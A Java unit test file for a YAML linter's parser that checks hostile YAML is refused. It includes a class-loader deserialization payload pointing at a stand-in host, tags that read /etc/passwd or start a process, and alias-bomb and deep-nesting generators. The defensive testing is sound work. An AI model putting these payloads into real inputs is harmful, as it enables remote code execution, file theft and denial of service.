package poalint.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.Collections;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What YAML files may not do to whoever reads them. */
final class HostileYamlTest {

    private static final Duration PATIENCE = Duration.ofSeconds(60);

    /** A tag names a class in other readers of YAML; here it is passed over, and what stands behind it is judged. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.invalid/\"]]]]",
                "!!java.io.File [/etc/passwd]",
                "!!poalint.cli.Main {}",
                "!<tag:yaml.org,2002:java.lang.ProcessBuilder> [touch, marker]"
            })
    void aTagMakesNoObject(String value) {
        YamlMap map = YamlMap.parse("rule.yaml", "summary: " + value + "\n");

        assertThatThrownBy(() -> map.text("summary"))
                .isInstanceOf(YamlException.class)
                .hasMessageStartingWith("rule.yaml:1:");
    }

    @ParameterizedTest
    @ValueSource(strings = {"!ENV ${HOME}", "!include /etc/passwd", "!!java.lang.String text"})
    void aTagReadsNothing(String value) {
        YamlMap map = YamlMap.parse("rule.yaml", "summary: " + value + "\n");

        assertThat(map.text("summary")).isEqualTo(value.substring(value.indexOf(' ') + 1));
    }

    @Test
    void aliasesDoNotMultiply() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            bomb.append(
                    "a" + i + ": &a" + i + " [" + String.join(", ", Collections.nCopies(10, "*a" + (i - 1))) + "]\n");
        }

        assertRefused(bomb.toString());
    }

    /** Few aliases, as the library allows, but each level twice the one below. */
    @Test
    void fewAliasesOfFewAliasesDoNotMultiplyEither() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x]\n");
        for (int i = 1; i <= 25; i++) {
            bomb.append("a" + i + ": &a" + i + " [*a" + (i - 1) + ", *a" + (i - 1) + "]\n");
        }
        bomb.append("summary: text\n");

        assertRefused(bomb.toString());
    }

    @Test
    void anAliasWithinItselfIsRefused() {
        assertRefused("summary: &a [*a]\n");
        assertRefused("summary: &a {b: *a}\n");
    }

    @Test
    void depthIsRefusedWithASentence() {
        assertRefused("summary: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n");
        assertRefused("summary: " + "{a: ".repeat(100_000) + "}".repeat(100_000) + "\n");
        assertRefused("- ".repeat(100_000) + "x\n");
    }

    private static void assertRefused(String text) {
        Assertions.assertTimeoutPreemptively(
                PATIENCE,
                () -> assertThatThrownBy(() -> YamlMap.parse("rule.yaml", text))
                        .isInstanceOf(YamlException.class)
                        .hasMessageStartingWith("rule.yaml:")
                        .hasMessageMatching("[^\\n]{1,300}"));
    }
}
